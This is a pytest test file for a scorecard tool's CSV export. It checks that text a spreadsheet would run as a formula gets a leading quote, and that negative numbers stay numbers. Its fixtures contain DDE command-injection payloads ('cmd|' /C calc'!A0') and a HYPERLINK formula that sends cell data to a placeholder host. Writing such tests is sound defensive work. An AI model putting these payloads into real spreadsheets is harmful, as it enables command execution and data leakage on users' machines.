"""Text that a spreadsheet would run as a formula is written so that it does not; numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from scorecard_report.render.summary_csv import spreadsheet_safe

from .support import scorecard

CATALOGUE = """\
title: Injection Test
organisation: Test Council
benchmarks:
  - {id: "@region", label: Region}
sections:
  - id: main
    title: Main
    indicators:
      - {ref: A1, title: '=HYPERLINK("http://example.invalid/?q="&A2,"Click")', unit: count, polarity: high}
      - {ref: A2, title: "+1+cmd|' /C calc'!A0", unit: count, polarity: high, target: "-5"}
      - {ref: A3, title: "-2+3+cmd|' /C calc'!A0", unit: count, polarity: low, benchmarks: {"@region": "-7"}}
      - {ref: A4, title: "@SUM(1+1)*cmd|' /C calc'!A0", unit: count, polarity: neutral}
      - {ref: A5, title: "\\tTabbed =1+1", unit: count, polarity: neutral}
      - {ref: A6, title: Plain title - with a dash, unit: count, polarity: neutral}
"""
DATA = 'ref,period,value,note\nA1,2023-01,-5,=HYPERLINK("x")\nA2,2023-01,-5,\nA3,2023-01,-0.5,\n'


def test_formula_like_text_gets_a_quote_and_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    (tmp_path / "catalogue.yaml").write_text(CATALOGUE, encoding="utf-8")
    (tmp_path / "values.csv").write_text(DATA, encoding="utf-8")
    run = scorecard(
        "build", "--catalogue", tmp_path / "catalogue.yaml", "--data", tmp_path / "values.csv",
        "--format", "csv", "--out", tmp_path / "out",
    )  # fmt: skip
    assert run.code == 0, run.err
    with (tmp_path / "out" / "injection-test-2023-01.csv").open(encoding="utf-8", newline="") as file:
        header, *rows = list(csv.reader(file))
    assert header[-3:] == ["'@region", "'@region_year", "'@region_too_old"]
    titles = {row[0]: row[2] for row in rows}
    assert titles == {
        "A1": '\'=HYPERLINK("http://example.invalid/?q="&A2,"Click")',
        "A2": "'+1+cmd|' /C calc'!A0",
        "A3": "'-2+3+cmd|' /C calc'!A0",
        "A4": "'@SUM(1+1)*cmd|' /C calc'!A0",
        "A5": "Tabbed =1+1",  # the catalogue strips the tab; a tab cell is covered below
        "A6": "Plain title - with a dash",
    }
    current = {row[0]: row[header.index("current")] for row in rows}
    assert (current["A1"], current["A2"], current["A3"]) == ("-5", "-5", "-0.5")
    a2, a3 = rows[1], rows[2]
    assert a2[header.index("target")] == "-5"
    assert a3[header.index("'@region")] == "-7"
    assert not any(cell.startswith(("=", "+", "@", "\t")) for row in (header, *rows) for cell in row)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),
        ("-5", "-5"),
        ("-1,238.5", "-1,238.5"),
        ("-5%", "-5%"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\r=1", "'\r=1"),
        ("\t=1", "'\t=1"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_the_rule_cell_by_cell(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written
